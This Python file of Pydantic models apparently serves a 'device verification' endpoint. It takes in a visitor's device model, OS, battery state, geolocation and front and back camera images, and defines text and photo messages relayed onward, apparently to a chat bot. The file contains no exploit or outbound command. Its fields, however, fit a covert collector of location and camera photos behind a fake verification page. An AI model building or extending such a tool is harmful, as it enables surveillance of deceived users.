"""
Pydantic models for device verification submissions and relayed messages.
"""

from typing import Annotated, Any, Literal, Optional, Union

from pydantic import BaseModel, Field


# ---------------------------------------------------------------------------
# Submission payload (POST /verify)
# ---------------------------------------------------------------------------

class BatteryInfo(BaseModel):
    """Battery state as reported by the browser Battery API."""
    model_config = {"extra": "ignore"}

    level: Any = None       # usually a 0..1 float, sometimes a "85%" string
    charging: bool = False


class DeviceInfo(BaseModel):
    model_config = {"extra": "ignore"}

    model: Optional[str] = None
    os: Optional[str] = None
    battery: Optional[BatteryInfo] = None


class GeoLocation(BaseModel):
    model_config = {"extra": "ignore"}

    latitude: Any = None
    longitude: Any = None
    accuracy: Any = None


class VerificationRequest(BaseModel):
    """
    Device verification submission.

    Image collections accept any JSON value; anything that is not a list
    decodes to no images.
    """
    model_config = {"extra": "ignore", "populate_by_name": True}

    device_info: DeviceInfo = Field(alias="deviceInfo")
    location: GeoLocation
    front_images: Any = Field(default=None, alias="frontImages")
    back_images: Any = Field(default=None, alias="backImages")


class VerificationResponse(BaseModel):
    model_config = {"populate_by_name": True}

    success: bool = True
    received_images: int = Field(alias="receivedImages")
    message: str = "Verification data processed successfully"


# ---------------------------------------------------------------------------
# Decoded images and relay messages
# ---------------------------------------------------------------------------

class DecodedImage(BaseModel):
    """An inline data-URI image, decoded to raw bytes."""

    raw_encoded: str          # base64 payload with the data-URI prefix stripped
    binary_content: bytes


class TextMessage(BaseModel):
    kind: Literal["text"] = "text"
    content: str
    parse_mode: Optional[str] = None    # "HTML" / "MarkdownV2"; plain text when None


class PhotoMessage(BaseModel):
    kind: Literal["photo"] = "photo"
    binary_content: bytes
    caption: str = ""


# Tagged variant handed to MessageRelay.send
RelayMessage = Annotated[Union[TextMessage, PhotoMessage], Field(discriminator="kind")]
